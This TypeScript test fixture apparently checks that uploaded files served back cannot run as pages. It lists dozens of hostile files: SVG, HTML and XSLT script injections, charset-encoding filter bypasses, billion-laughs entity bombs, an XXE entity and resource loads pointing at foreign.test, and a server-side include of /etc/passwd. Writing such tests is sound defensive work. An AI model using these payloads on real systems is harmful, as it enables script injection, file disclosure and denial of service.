import { gzipSync } from 'node:zlib';
import { HTML, JS, QUOTED, type Sent, SVG } from './hostile-payload.ts';

const XSLT = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${JS}</script></html></xsl:template></xsl:stylesheet></d>`;
const MHTML = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://foreign.test/\r\n\r\n${HTML}\r\n--b--\r\n`;
const MAIL = `From: a@foreign.test\r\nSubject: homework\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${HTML}`;
const XMLNS = 'xmlns="http://www.w3.org/1999/xhtml"';
const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const utf32 = (text: string): Buffer =>
  Buffer.concat([...text].map((char) => Buffer.from(Uint32Array.of(char.codePointAt(0) ?? 0).buffer)));
const svg = (inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
/** Each level ten times the one before: 10^9 of the innermost. */
const laughs = (kind: string): string =>
  `<!DOCTYPE ${kind} [<!ENTITY l0 "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>`;

/** Markup, scripts and styles: what a browser would run as a page of ours if it were told a type, or left to guess one. */
export const hostilePages: readonly Sent[] = [
  ['plain.svg', SVG],
  ['declared.svg', `<?xml version="1.0" encoding="UTF-8"?>\n${SVG}`],
  ['picture.png', SVG],
  ['late.svg', `<!-- ${'x'.repeat(10_000)} -->${SVG}`],
  ['utf16.svg', utf16(SVG)],
  ['packed.svgz', gzipSync(SVG)],
  ['laughs.svg', `${laughs('svg')}${svg(`<script>${JS}</script><text>&l9;</text>`)}`],
  ['used.svg', svg('<use xlink:href="http://foreign.test/u.svg#x"/><image href="http://foreign.test/i.svg"/>')],
  ['moving.svg', svg(`<animate attributeName="x" dur="1ms" onbegin="${QUOTED}" onend="${QUOTED}"/>`)],
  ['linked.svg', svg(`<script href="data:text/javascript,${encodeURIComponent(JS)}"/>`)],
  ['styled.svg', svg('<style>@import "http://foreign.test/s.css";*{fill:url(http://foreign.test/f.svg#x)}</style>')],
  ['sheet.svg', `<?xml-stylesheet href="http://foreign.test/s.css" type="text/css"?>${SVG}`],
  ['page.html', HTML],
  ['page.htm', ` \n\t${HTML}`],
  ['late.html', `${'two lines of notes\n'.repeat(600)}${HTML}`],
  ['bom.html', `\uFEFF${HTML}`],
  ['utf16.html', utf16(HTML)],
  ['utf32.html', utf32(HTML)],
  ['utf7.html', `+ADw-script+AD4-${JS}+ADw-/script+AD4-`],
  ['iso2022.html', `<meta charset="iso-2022-jp"><p title="\u001b$B">\u001b(B"><img src=x onerror="${QUOTED}">`],
  ['fragment', `<script>${JS}</script>`],
  ['notes.txt', HTML],
  ['closing.txt', `</title></textarea></pre></plaintext><script>${JS}</script>`],
  ['framed.html', `<iframe srcdoc="<script>${JS.replaceAll("'", '&#39;')}</script>"></iframe>`],
  ['base.html', `<base href="http://foreign.test/"><link rel=stylesheet href=s.css><script src=s.js></script>`],
  ['loaded.html', '<link rel=preload as=image href=http://foreign.test/p><link rel=dns-prefetch href=//foreign.test>'],
  ['page.xhtml', `<html ${XMLNS}><script>${JS}</script></html>`],
  ['page.xht', `<?xml version="1.0"?><html ${XMLNS}><body onload="${QUOTED}"/></html>`],
  ['page.hta', `<hta:application/>${HTML}`],
  ['page.shtml', `<!--#include virtual="/etc/passwd" -->${HTML}`],
  ['sheet.xml', XSLT],
  ['feed.xml', `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${JS}</x:script>`],
  [
    'feed.rss',
    `<rss version="2.0"><channel><title><![CDATA[${HTML}]]></title><x ${XMLNS}><script>${JS}</script></x></channel></rss>`,
  ],
  ['entity.xml', `<!DOCTYPE d [<!ENTITY x SYSTEM "http://foreign.test/x">]><d>&x;<script ${XMLNS}>${JS}</script></d>`],
  ['laughs.xml', `${laughs('d')}<d>&l9;</d>`],
  [
    'formula.xml',
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:${QUOTED}" xmlns:xlink="http://www.w3.org/1999/xlink"><mtext>x</mtext></maction></math>`,
  ],
  ['saved.mhtml', MHTML],
  ['letter.eml', MAIL],
  ['script.js', JS],
  ['module.mjs', `export default 1;${JS}`],
  ['called.json', `pwned('run')//{"a":1}`],
  ['style.css', '@import "http://foreign.test/s.css";body{background:url(http://foreign.test/b)}'],
  ['list.m3u8', '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nhttp://foreign.test/1.ts\n#EXT-X-ENDLIST\n'],
  ['worker.wasm', Buffer.from('0061736d01000000', 'hex')],
  ['bytes-then-page.bin', `\0\0\0\0${HTML}`],
];
